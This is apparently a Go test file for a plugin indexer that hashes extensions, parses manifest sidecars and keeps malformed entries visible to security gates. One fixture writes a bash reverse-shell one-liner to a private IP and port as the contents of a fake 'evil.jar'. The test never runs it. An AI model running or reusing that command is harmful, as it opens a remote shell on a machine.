package plugin

import (
	"crypto/sha256"
	"encoding/hex"
	"os"
	"path/filepath"
	"testing"

	"github.com/google/uuid"
)

func writeFile(t *testing.T, path, content string) {
	t.Helper()
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatalf("write %s: %v", path, err)
	}
}

func TestIndexMissingDirectory(t *testing.T) {
	ctx, ok := Index(filepath.Join(t.TempDir(), "absent"))
	if ok || ctx != nil {
		t.Fatalf("expected no context for missing directory, got %v %v", ctx, ok)
	}
}

func TestIndexEmptyDirectory(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, filepath.Join(dir, "README.txt"), "not an extension")
	if err := os.Mkdir(filepath.Join(dir, "nested.zip"), 0o755); err != nil {
		t.Fatalf("mkdir: %v", err)
	}
	if _, ok := Index(dir); ok {
		t.Fatal("expected zero valid extensions to report false")
	}
}

func TestIndexDescribesExtensions(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, filepath.Join(dir, "b.zip"), "bravo")
	writeFile(t, filepath.Join(dir, "a.so"), "alpha")
	sum := sha256.Sum256([]byte("alpha"))
	writeFile(t, filepath.Join(dir, "a.so.yml"), "name: alpha\nversion: 1.0.0\nsha256: "+hex.EncodeToString(sum[:])+"\ncapabilities: [network]\n")
	writeFile(t, filepath.Join(dir, "broken.jar"), "x")
	writeFile(t, filepath.Join(dir, "broken.jar.yml"), "capabilities: [teleport]\n")

	ctx, ok := Index(dir)
	if !ok {
		t.Fatal("expected extensions to be indexed")
	}
	if ctx.Len() != 3 {
		t.Fatalf("expected 3 extensions, got %d", ctx.Len())
	}
	list := ctx.Extensions()
	if list[0].Name != "a.so" || list[1].Name != "b.zip" || list[2].Name != "broken.jar" {
		t.Fatalf("unexpected order: %s, %s, %s", list[0].Name, list[1].Name, list[2].Name)
	}
	if list[2].ManifestErr == nil || list[2].Manifest != nil {
		t.Fatalf("broken manifest must be carried as an error: %+v", list[2])
	}
	if list[0].ManifestErr != nil || list[1].ManifestErr != nil {
		t.Fatal("valid or missing manifests must not carry an error")
	}
	a := list[0]
	if a.Digest != sum || a.Size != int64(len("alpha")) {
		t.Fatalf("unexpected digest or size: %s %d", a.DigestHex(), a.Size)
	}
	if a.ID != uuid.NewSHA1(Namespace, []byte("a.so")) {
		t.Fatalf("unexpected identity: %s", a.ID)
	}
	if a.Manifest == nil || a.Manifest.Name != "alpha" {
		t.Fatalf("manifest not loaded: %+v", a.Manifest)
	}
	if declared, ok := a.Manifest.DeclaredDigest(); !ok || declared != sum {
		t.Fatal("declared digest not parsed")
	}
	if list[1].Manifest != nil {
		t.Fatal("extension without sidecar must have no manifest")
	}
}

func TestContextIsImmutable(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, filepath.Join(dir, "a.so"), "alpha")
	writeFile(t, filepath.Join(dir, "a.so.yml"), "capabilities: [filesystem]\n")

	ctx, ok := Index(dir)
	if !ok {
		t.Fatal("expected extension")
	}
	list := ctx.Extensions()
	list[0].Name = "mutated"
	list[0].Manifest.Capabilities[0] = CapabilityExecution

	got, ok := ctx.Lookup("a.so")
	if !ok {
		t.Fatal("lookup failed after caller mutation")
	}
	if got.Manifest.Capabilities[0] != CapabilityFilesystem {
		t.Fatalf("context was mutated through a copy: %v", got.Manifest.Capabilities)
	}
	if _, ok := ctx.Lookup("mutated"); ok {
		t.Fatal("unexpected lookup hit")
	}
}

func TestIndexWithInclude(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, filepath.Join(dir, "tool.wasm"), "wasm")
	writeFile(t, filepath.Join(dir, "tool.wasm.sig"), "sig")
	writeFile(t, filepath.Join(dir, "lib.so"), "so")

	ctx, ok := Index(dir, WithInclude("*"))
	if !ok {
		t.Fatal("expected extensions")
	}
	if ctx.Len() != 2 {
		t.Fatalf("sidecars must never be indexed, got %d entries", ctx.Len())
	}
}

func TestIndexKeepsExtensionWithMalformedDigest(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, filepath.Join(dir, "good.jar"), "good")
	writeFile(t, filepath.Join(dir, "evil.jar"), "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")
	writeFile(t, filepath.Join(dir, "evil.jar.yml"), "sha256: not-a-digest\n")

	ctx, ok := Index(dir)
	if !ok {
		t.Fatal("expected extensions to be indexed")
	}
	evil, found := ctx.Lookup("evil.jar")
	if !found {
		t.Fatal("extension with a malformed manifest must stay visible to the gates")
	}
	if evil.ManifestErr == nil {
		t.Fatal("expected manifest error on evil.jar")
	}
}

func TestIndexFailsWhenExtensionCannotBeHashed(t *testing.T) {
	if os.Geteuid() == 0 {
		t.Skip("root can read any file")
	}
	dir := t.TempDir()
	writeFile(t, filepath.Join(dir, "good.jar"), "good")
	locked := filepath.Join(dir, "locked.jar")
	writeFile(t, locked, "secret")
	if err := os.Chmod(locked, 0o000); err != nil {
		t.Fatalf("chmod: %v", err)
	}
	if _, ok := Index(dir); ok {
		t.Fatal("an extension that cannot be read must fail indexing")
	}
}
